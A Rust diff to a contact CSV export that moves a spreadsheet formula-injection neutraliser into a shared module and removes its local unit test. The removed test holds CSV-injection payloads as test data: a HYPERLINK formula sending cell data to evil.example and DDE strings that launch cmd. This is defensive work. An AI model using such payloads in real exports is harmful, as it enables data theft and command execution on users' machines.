@@ -41,22 +41,6 @@ const COLUMNS: [&str; 22] = [
     "created_at",
 ];
 
-/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab or CR first: OWASP's
-/// rule) gets a leading `'`, so lead-provided text stays text. Plain numbers (`+5511987654321`,
-/// `-3`) cannot carry a formula and stay as they are.
-pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
-    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
-    let plain_number = {
-        let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
-        !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
-    };
-    if risky && !plain_number {
-        Cow::Owned(format!("'{cell}"))
-    } else {
-        Cow::Borrowed(cell)
-    }
-}
-
 /// The columns the file has, and no more (not the custom fields or notes a contact row has).
 #[derive(Queryable, Selectable)]
 #[diesel(table_name = contacts, check_for_backend(Pg))]
@@ -149,7 +133,7 @@ fn write_record<W: std::io::Write>(
         &created,
     ];
     for cell in cells {
-        writer.write_field(neutralise_formula(cell).as_bytes())?;
+        writer.write_field(domain::text::neutralise_formula(cell).as_bytes())?;
     }
     writer.write_record(None::<&[u8]>)
 }
@@ -322,8 +306,6 @@ pub async fn export_contacts(
 
 #[cfg(test)]
 mod tests {
-    use super::neutralise_formula;
-
     #[test]
     fn timestamps_are_written_as_chrono_writes_them() {
         use chrono::TimeZone;
@@ -334,26 +316,5 @@ mod tests {
         }
         let far = chrono::Utc.with_ymd_and_hms(12_345, 1, 1, 0, 0, 0).unwrap();
         assert_eq!(super::rfc3339_cell(&far, &mut [0; 36]), far.to_rfc3339());
-    }
-
-    #[test]
-    fn formula_cells_are_neutralised_and_plain_values_kept() {
-        for (cell, safe) in [
-            (
-                r#"=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
-                r#"'=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
-            ),
-            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
-            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
-            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
-            ("\t=1+1", "'\t=1+1"),
-            ("\r=1+1", "'\r=1+1"),
-            ("+5511987654321", "+5511987654321"),
-            ("-3", "-3"),
-            ("Maria = cliente", "Maria = cliente"),
-            ("", ""),
-        ] {
-            assert_eq!(neutralise_formula(cell), safe, "{cell:?}");
-        }
     }
 }
